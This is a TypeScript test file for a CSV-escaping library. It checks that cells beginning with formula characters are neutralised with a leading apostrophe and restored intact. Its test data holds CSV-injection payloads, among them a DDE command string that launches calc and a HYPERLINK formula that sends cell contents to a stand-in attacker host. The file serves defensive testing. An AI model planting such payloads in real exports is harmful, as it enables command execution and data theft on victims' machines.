import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { csvLine, restoreCell } from '@/lib/text/csv-line';

function read(line: string): string[] {
  const rows: string[][] = parse(line);
  return rows[0] ?? [];
}

// https://owasp.org/www-community/attacks/CSV_Injection, and what Excel and LibreOffice run
it.each([
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  "'=1+1",
  '--1',
])('%j is a text to a spreadsheet, and itself again to Winnow', (cell) => {
  const [written = ''] = read(csvLine([cell, 'x']));
  expect(written).toBe(`'${cell}`);
  expect(restoreCell(written)).toBe(cell);
});

it.each(['-12', '+3.5', '-1e-9', '.5', "d'or", 'a=b', '', 'ordinary'])('%j stays', (cell) => {
  expect(read(csvLine([cell, 'x']))[0]).toBe(cell);
  expect(restoreCell(cell)).toBe(cell);
});

it('is read back as it was, whatever it holds, and begins no formula', () => {
  const nasty = fc.stringMatching(/^['=+\-@\t\r\n",; \uFF1D]{0,4}[a-z0-9]{0,3}$/);
  fc.assert(
    fc.property(fc.array(fc.oneof(nasty, fc.string()), { minLength: 2, maxLength: 5 }), (cells) => {
      const written = read(csvLine(cells));
      expect(written.map(restoreCell)).toEqual(cells);
      for (const cell of written) {
        if (Number.isNaN(Number(cell))) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D]/);
      }
    }),
  );
});
